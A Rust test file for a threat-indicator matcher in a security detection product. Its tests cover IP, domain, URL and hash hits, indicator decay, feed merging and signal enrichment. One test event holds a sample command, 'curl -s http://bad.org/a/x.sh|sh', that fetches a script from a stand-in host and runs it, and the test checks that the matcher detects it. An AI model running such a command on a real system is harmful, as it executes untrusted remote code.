//! Events against indicators: what hits, what does not, and that the fast way says what the plain way says.

#![allow(clippy::unwrap_used, clippy::indexing_slicing, clippy::panic, reason = "a test fails by panicking")]

use std::net::IpAddr;
use std::sync::Arc;

use proptest::prelude::*;
use sentra_enrich::indicators::{
    DecayPolicy, HITS_PER_EVENT_MAX, INDICATOR_SOURCES_MAX, IndicatorContext, IndicatorKind, IndicatorRecord,
    IndicatorSource, IndicatorValue, Indicators, IndicatorsBuilder, NeverIndicators, PushError, hit_rule,
};
use sentra_model::{
    BatchBuilder, Digest, EnrichmentStage, EntityRef, EntityType, Estimate, Event, EventBatch, EventId, Mart,
    RawRecord, Role, RuleKind, RuleRef, Severity, Signal, SignalId, Source, SourceKind, TenantId, Timestamp,
};

const NOW: i64 = 1_700_000_000;
const DAY: i64 = 86_400;

fn at(seconds: i64) -> Timestamp {
    Timestamp::from_seconds(seconds)
}

fn record(value: &str) -> IndicatorRecord {
    record_of(value, "feed", 0.9, NOW)
}

fn record_of(value: &str, source: &str, confidence: f64, seen: i64) -> IndicatorRecord {
    let sources = vec![IndicatorSource { name: source.to_owned(), version: "1".to_owned() }];
    IndicatorRecord {
        value: IndicatorValue::parse(value).unwrap(),
        confidence,
        last_seen: at(seen),
        valid_from: None,
        valid_until: None,
        context: Arc::new(IndicatorContext { sources, ..IndicatorContext::default() }),
    }
}

fn built(records: &[IndicatorRecord]) -> Indicators {
    let mut builder = IndicatorsBuilder::new(DecayPolicy::default(), NeverIndicators::default());
    for record in records {
        builder.push(record).unwrap();
    }
    builder.finish()
}

fn batch(events: &[Event<'_>]) -> EventBatch {
    let source =
        Source { kind: SourceKind::File, origin: "test".to_owned(), format: None, reference: at(NOW) };
    let mut builder = BatchBuilder::new(TenantId::default_tenant(), Mart::LINUX);
    for (number, event) in events.iter().enumerate() {
        let record = RawRecord { source: &source, position: 0, received: event.time, bytes: b"" };
        builder.push(EventId::raw(0, number as u64), &record, event).unwrap();
    }
    builder.finish().unwrap()
}

fn event<'a>(fields: &[(&'a str, &'a str)]) -> Event<'a> {
    let mut event = Event::new("test", Mart::LINUX, at(NOW));
    for (name, value) in fields {
        match *name {
            "src_ip" => event.src_ip = (*value).into(),
            "domain" => event.domain = (*value).into(),
            "command" => event.command = (*value).into(),
            "user" => event.user = (*value).into(),
            name => event.push(name, *value),
        }
    }
    event
}

/// Row, place and indicator of every hit.
fn hits(indicators: &Indicators, events: &[Event<'_>]) -> Vec<(usize, String, String)> {
    let found = indicators.scan(&batch(events), at(NOW));
    found.hits.iter().map(|hit| (hit.row, hit.place.name().to_owned(), hit.indicator.value.clone())).collect()
}

fn hit(row: usize, place: &str, value: &str) -> (usize, String, String) {
    (row, place.to_owned(), value.to_owned())
}

#[test]
fn events_hit_by_column_and_by_the_names_of_fields() {
    let md5 = "0123456789abcdef0123456789abcdef";
    let sha256 = md5.repeat(2);
    let hashes = format!("SHA1=F1D1D942ACBA432D60C139A8AE9644665044BCD6,MD5={md5},IMPHASH={md5}");
    let imphash = format!("IMPHASH={md5}");
    let names = [
        "203.0.113.7",
        "198.51.100.0/24",
        "2001:db8::/32",
        "evil.com",
        "http://bad.org/a/",
        "bad@evil.net",
        md5,
        &sha256,
    ];
    let indicators = built(&names.map(record));
    let events = [
        event(&[("src_ip", "203.0.113.7")]),
        event(&[("src_ip", "::ffff:203.0.113.7")]),
        event(&[("src_ip", "198.51.100.77")]),
        event(&[("DestinationIp", "2001:db8:1::1")]),
        event(&[("domain", "Www.Evil.COM.")]),
        event(&[("QueryName", "evil.com"), ("note", "evil.com")]),
        event(&[("QueryResults", "type: 5 x.org;::ffff:203.0.113.7;")]),
        event(&[("url", "https://user@bad.org:443/a/b?c#d")]),
        event(&[("url", "http://bad.org/ab")]),
        event(&[("request.url", "http://sub.evil.com/x")]),
        event(&[("Hashes", &hashes)]),
        event(&[("Hashes", &imphash)]),
        event(&[("process.hash.sha256", &sha256)]),
        event(&[("user", "Bad@Evil.net")]),
        event(&[("from", "Somebody <x@evil.com>")]),
        event(&[("command", "curl -s http://bad.org/a/x.sh|sh")]),
        event(&[("server_name", "evil.com:8443")]),
        event(&[("src_ip", "203.0.113.70"), ("domain", "notevil.com"), ("Hash", "zz"), ("url", "/a/b")]),
        event(&[("description", "203.0.113.7 evil.com")]),
    ];
    let expected = [
        hit(0, "src_ip", "203.0.113.7"),
        hit(1, "src_ip", "203.0.113.7"),
        hit(2, "src_ip", "198.51.100.0/24"),
        hit(3, "DestinationIp", "2001:db8::/32"),
        hit(4, "domain", "evil.com"),
        hit(5, "QueryName", "evil.com"),
        hit(6, "QueryResults", "203.0.113.7"),
        hit(7, "url", "bad.org/a/"),
        hit(9, "request.url", "evil.com"),
        hit(10, "Hashes", md5),
        hit(12, "process.hash.sha256", &sha256),
        hit(13, "user", "bad@evil.net"),
        hit(14, "from", "evil.com"),
        hit(15, "command", "bad.org/a/"),
        hit(16, "server_name", "evil.com"),
    ];
    assert_eq!(hits(&indicators, &events), expected);
}

#[test]
fn the_most_confident_of_several_counts_and_of_equals_the_most_specific() {
    let indicators = built(&[
        record_of("evil.com", "a", 0.5, NOW),
        record_of("www.evil.com", "a", 0.5, NOW),
        record_of("203.0.113.0/24", "a", 0.9, NOW),
        record_of("203.0.113.7", "a", 0.4, NOW),
    ]);
    let events = [event(&[("domain", "a.www.evil.com")]), event(&[("src_ip", "203.0.113.7")])];
    assert_eq!(
        hits(&indicators, &events),
        [hit(0, "domain", "www.evil.com"), hit(1, "src_ip", "203.0.113.0/24")]
    );
}

#[test]
fn an_event_hits_an_indicator_once_and_not_without_end() {
    let names: Vec<String> = (0..200).map(|number| format!("198.51.100.{number}")).collect();
    let records: Vec<IndicatorRecord> = names.iter().map(|name| record(name)).collect();
    let indicators = built(&records);
    let twice = event(&[("src_ip", "198.51.100.1"), ("ip", "198.51.100.1"), ("client_ip", "198.51.100.2")]);
    assert_eq!(
        hits(&indicators, &[twice]),
        [hit(0, "src_ip", "198.51.100.1"), hit(0, "client_ip", "198.51.100.2")]
    );
    let mut flood = event(&[]);
    for _ in 0..100 {
        names.iter().for_each(|name| flood.push("ip", name.as_str()));
    }
    let found = indicators.scan(&batch(&[flood, event(&[("ip", "198.51.100.3")])]), at(NOW));
    assert_eq!(found.hits.iter().filter(|hit| hit.row == 0).count(), HITS_PER_EVENT_MAX);
    assert_eq!(found.hits.iter().filter(|hit| hit.row == 1).count(), 1);
    assert!(found.hits_dropped > 0);
}

#[test]
fn expired_and_faded_indicators_do_not_hit() {
    let mut early = record("early.com");
    early.valid_from = Some(at(NOW + 10));
    early.valid_until = Some(at(NOW + 20));
    let indicators = built(&[early, record("fades.com")]);
    for (seconds, is_hit) in [(9, false), (10, true), (19, true), (20, false)] {
        assert_eq!(indicators.find("early.com", at(NOW + seconds)).is_some(), is_hit, "{seconds}");
    }
    // Nine tenths are two tenths after 2.17 half-lives of sixty days.
    assert!(indicators.find("fades.com", at(NOW + 130 * DAY)).is_some());
    assert!(indicators.find("fades.com", at(NOW + 131 * DAY)).is_none());
    let (_, left) = indicators.find("fades.com", at(NOW + 60 * DAY)).unwrap();
    assert!((left - 0.45).abs() < 1e-6);
}

#[test]
fn arrival_judges_each_event_alone() {
    let mut limited = record("evil.com");
    limited.valid_until = Some(at(NOW + 5));
    let indicators = built(&[limited]);
    let mut late = event(&[("domain", "evil.com")]);
    // The arrival is the time in these batches.
    late.time = at(NOW + 6);
    let events = [event(&[("domain", "evil.com")]), late];
    let whole = indicators.scan_at_arrival(&batch(&events));
    assert_eq!(whole.hits.iter().map(|hit| hit.row).collect::<Vec<_>>(), [0]);
    let parts: usize = events
        .iter()
        .map(|event| indicators.scan_at_arrival(&batch(std::slice::from_ref(event))).hits.len())
        .sum();
    assert_eq!(parts, 1, "the cut does not matter");
}

#[test]
fn a_value_of_several_feeds_is_kept_once() {
    let mut first = record_of("evil.com", "old", 0.9, NOW - 60 * DAY);
    first.valid_until = Some(at(NOW + DAY));
    let second = record_of("evil.com", "new", 0.3, NOW);
    let many: Vec<IndicatorRecord> =
        (0..20).map(|n| record_of("many.com", &format!("feed {n:02}"), 0.5, NOW)).collect();
    let mut all = vec![first, second];
    all.extend(many);
    let indicators = built(&all);
    assert_eq!((indicators.summary().records, indicators.summary().values), (22, 2));
    let (merged, left) = indicators.find("evil.com", at(NOW)).unwrap();
    // Nine tenths two months ago are still more than three tenths now.
    assert!((left - 0.45).abs() < 1e-6, "{left}");
    assert_eq!(merged.last_seen, at(NOW));
    assert_eq!(merged.valid_until, None, "one of them sets no end");
    let names: Vec<&str> = merged.context.sources.iter().map(|source| source.name.as_str()).collect();
    assert_eq!(names, ["new", "old"]);
    let (many, _) = indicators.find("many.com", at(NOW)).unwrap();
    assert_eq!(many.context.sources.len(), INDICATOR_SOURCES_MAX);
    assert_eq!(many.context.sources_more as usize, 20 - INDICATOR_SOURCES_MAX);
    all.reverse();
    assert_eq!(built(&all).version(), indicators.version(), "the order of the feeds does not matter");
    all.pop();
    assert_ne!(built(&all).version(), indicators.version());
}

#[test]
fn poison_does_not_come_in() {
    let mut builder = IndicatorsBuilder::new(DecayPolicy::default(), NeverIndicators::built_in());
    assert!(matches!(builder.push(&record("127.0.0.1")), Err(PushError::Never(_))));
    let mut backwards = record("evil.com");
    (backwards.valid_from, backwards.valid_until) = (Some(at(5)), Some(at(4)));
    assert_eq!(builder.push(&backwards), Err(PushError::Validity));
    assert!(builder.finish().is_empty());
}

#[test]
fn an_empty_set_hits_nothing() {
    let indicators = Indicators::default();
    assert!(indicators.scan(&batch(&[event(&[("src_ip", "203.0.113.7")])]), at(NOW)).hits.is_empty());
    assert!(built(&[record("evil.com")]).scan(&batch(&[]), at(NOW)).hits.is_empty());
}

fn signal(entities: Vec<EntityRef>) -> Signal {
    Signal {
        id: SignalId::derive(Digest::new("test")),
        tenant: TenantId::default_tenant(),
        rule: RuleRef {
            id: "rule".to_owned(),
            title: "rule".to_owned(),
            kind: RuleKind::Sigma,
            level: Severity::Low,
            tags: Vec::new(),
            pack: "test@1".to_owned(),
        },
        severity: Severity::Low,
        probability: Estimate::new(0.1, 0.0, 0.2),
        first: at(NOW),
        last: at(NOW),
        count: 1,
        folded: 0,
        events: Vec::new(),
        events_total: 1,
        entities,
        facts: Vec::new(),
        techniques: Vec::new(),
        tactics: Vec::new(),
        controls: Vec::new(),
        enrichments: Vec::new(),
        verdict: None,
    }
}

#[test]
fn a_signal_learns_what_is_known_of_its_entities() {
    let mut known = record_of("203.0.113.7", "feodo", 0.8, NOW - 14 * DAY);
    let mut context = (*known.context).clone();
    context.add_threat("Emotet");
    context.add_techniques("T1071");
    known.context = Arc::new(context);
    let indicators = built(&[known]);
    let mut signal = signal(vec![
        EntityRef::new(EntityType::Ip, Role::Source, "203.0.113.7"),
        EntityRef::new(EntityType::Host, Role::Target, "web1"),
        EntityRef::new(EntityType::Process, Role::Actor, "203.0.113.7"),
    ]);
    indicators.enrich(&mut signal, at(NOW));
    let told: Vec<(&str, &str)> =
        signal.enrichments.iter().map(|known| (known.name.as_str(), known.value.as_str())).collect();
    assert_eq!(told, [("indicator", "address 203.0.113.7"), ("threat", "Emotet"), ("technique", "T1071")]);
    let first = &signal.enrichments[0];
    assert_eq!(
        (first.stage, first.source.as_str(), first.version.as_str()),
        (EnrichmentStage::Intelligence, "indicators:feodo", "1")
    );
    assert!((first.confidence.unwrap() - 0.4).abs() < 1e-6, "half of it after a half-life");
    let before = signal.clone();
    indicators.enrich(&mut signal, at(NOW));
    assert_eq!(signal, before, "once more changes nothing");
    indicators.enrich(&mut signal, at(NOW + 1_000 * DAY));
    assert_eq!(signal, before, "what has faded says nothing");
}

#[test]
fn a_hit_stands_for_a_rule() {
    let indicators = built(&[
        record_of("evil.com", "a", 0.9, NOW),
        record_of("203.0.113.0/24", "a", 0.6, NOW),
        record_of("0123456789abcdef0123456789abcdef", "a", 0.3, NOW),
    ]);
    let events = [event(&[
        ("domain", "x.evil.com"),
        ("src_ip", "203.0.113.9"),
        ("md5", "0123456789abcdef0123456789abcdef"),
    ])];
    let found = indicators.scan(&batch(&events), at(NOW));
    let told: Vec<(String, Severity, Option<EntityRef>)> = found
        .hits
        .iter()
        .map(|hit| (hit_rule(hit).rule.id, hit_rule(hit).rule.level, hit.entity()))
        .collect();
    assert_eq!(
        told,
        [
            (
                "indicator-match/address".to_owned(),
                Severity::Medium,
                Some(EntityRef::new(EntityType::Ip, Role::Source, "203.0.113.9"))
            ),
            (
                "indicator-match/domain".to_owned(),
                Severity::High,
                Some(EntityRef::new(EntityType::Domain, Role::Destination, "evil.com"))
            ),
            ("indicator-match/hash".to_owned(), Severity::Low, None),
        ]
    );
    for hit in &found.hits {
        let rule = hit_rule(hit);
        assert_eq!(rule.rule.kind, RuleKind::Model);
        assert!(rule.prior > 0.0 && rule.prior < hit.confidence);
    }
}

/// What the index must say, the plain way: every indicator is compared with every value.
fn plainly(records: &[IndicatorRecord], look: &str, now: Timestamp) -> Option<f64> {
    let policy = DecayPolicy::default();
    let value = IndicatorValue::parse(look).ok()?;
    let matches = |known: &IndicatorValue| match (known, &value) {
        (IndicatorValue::Network4 { first, prefix }, IndicatorValue::V4(address)) => {
            u64::from(*first) >> (32 - prefix) == u64::from(*address) >> (32 - prefix)
        }
        (IndicatorValue::Domain(name), IndicatorValue::Domain(seen)) => {
            seen == name || seen.ends_with(&format!(".{name}"))
        }
        (IndicatorValue::Url(known), IndicatorValue::Url(seen)) => {
            let bare = seen.split('?').next().unwrap();
            known == seen || known == bare || known.ends_with('/') && bare.starts_with(known.as_str())
        }
        (IndicatorValue::Domain(name), IndicatorValue::Url(seen)) => {
            let host = seen.split('/').next().unwrap();
            host == name || host.ends_with(&format!(".{name}"))
        }
        (known, seen) => known == seen,
    };
    let left = records.iter().filter(|record| matches(&record.value)).filter_map(|record| {
        let is_valid = record.valid_from.is_none_or(|from| from <= now)
            && record.valid_until.is_none_or(|until| now < until);
        let left = policy.decayed(record.value.kind(), record.confidence, now.since(record.last_seen));
        (is_valid && left >= policy.floor).then_some(left)
    });
    left.fold(None, |best: Option<f64>, left| Some(best.map_or(left, |best| best.max(left))))
}

fn any_value() -> impl Strategy<Value = String> {
    let host = "(a|b|c|www)(\\.(a|b|evil)){0,2}\\.(com|org)";
    prop_oneof![
        (0_u8..6, 0_u8..4).prop_map(|(a, b)| format!("203.0.{a}.{b}")),
        (0_u8..6, 20_u8..31).prop_map(|(a, prefix)| format!("203.0.{a}.0/{prefix}")),
        host.prop_map(|host| host),
        (host, "(/[ab]){0,3}/?(\\?x=[12])?").prop_map(|(host, path)| format!("http://{host}{path}")),
        "[01]{32}".prop_map(|digest| digest),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(300))]

    #[test]
    fn the_index_says_what_comparing_with_everything_says(
        known in prop::collection::btree_map(any_value(), (20_u32..=100, 0_i64..100, prop::option::of(-5_i64..5)), 0..60),
        looks in prop::collection::vec(any_value(), 1..60),
    ) {
        let records: Vec<IndicatorRecord> = known
            .iter()
            .map(|(value, (percent, age, until))| {
                let mut record = record_of(value, "a", f64::from(*percent) / 100.0, NOW - age * DAY);
                record.valid_until = until.map(|days| at(NOW + days * DAY));
                record
            })
            .collect();
        // The same value may be written in several ways; then merging has a say, which has tests of its own.
        let mut values: Vec<&IndicatorValue> = records.iter().map(|record| &record.value).collect();
        values.sort();
        values.dedup();
        prop_assume!(values.len() == records.len());
        let indicators = built(&records);
        let events: Vec<Event<'_>> = looks.iter().map(|look| {
            let name = match IndicatorValue::parse(look).unwrap().kind() {
                IndicatorKind::Url => "url",
                IndicatorKind::Md5 => "hash",
                _ => "host",
            };
            event(&[(name, look.as_str())])
        }).collect();
        let found = indicators.scan(&batch(&events), at(NOW));
        for (row, look) in looks.iter().enumerate() {
            // A network is nothing that an event names.
            let is_network = look.split_once('/').is_some_and(|(address, _)| address.parse::<IpAddr>().is_ok());
            let expected = if is_network { None } else { plainly(&records, look, at(NOW)) };
            let hit = found.hits.iter().find(|hit| hit.row == row).map(|hit| hit.confidence);
            match (hit, expected) {
                (Some(hit), Some(expected)) => prop_assert!((hit - expected).abs() < 1e-9, "{look}"),
                (hit, expected) => prop_assert_eq!(hit, expected, "{}", look),
            }
        }
    }

    #[test]
    fn the_order_of_records_does_not_matter(mut known in prop::collection::vec((any_value(), 0_u32..=100, 0_i64..5, 0_u8..4), 0..60)) {
        let build = |known: &[(String, u32, i64, u8)]| {
            let records: Vec<IndicatorRecord> = known
                .iter()
                .map(|(value, percent, age, feed)| record_of(value, &format!("feed {feed}"), f64::from(*percent) / 100.0, NOW - age * DAY))
                .collect();
            built(&records)
        };
        let forwards = build(&known);
        known.reverse();
        let backwards = build(&known);
        prop_assert_eq!(forwards.version(), backwards.version());
    }
}
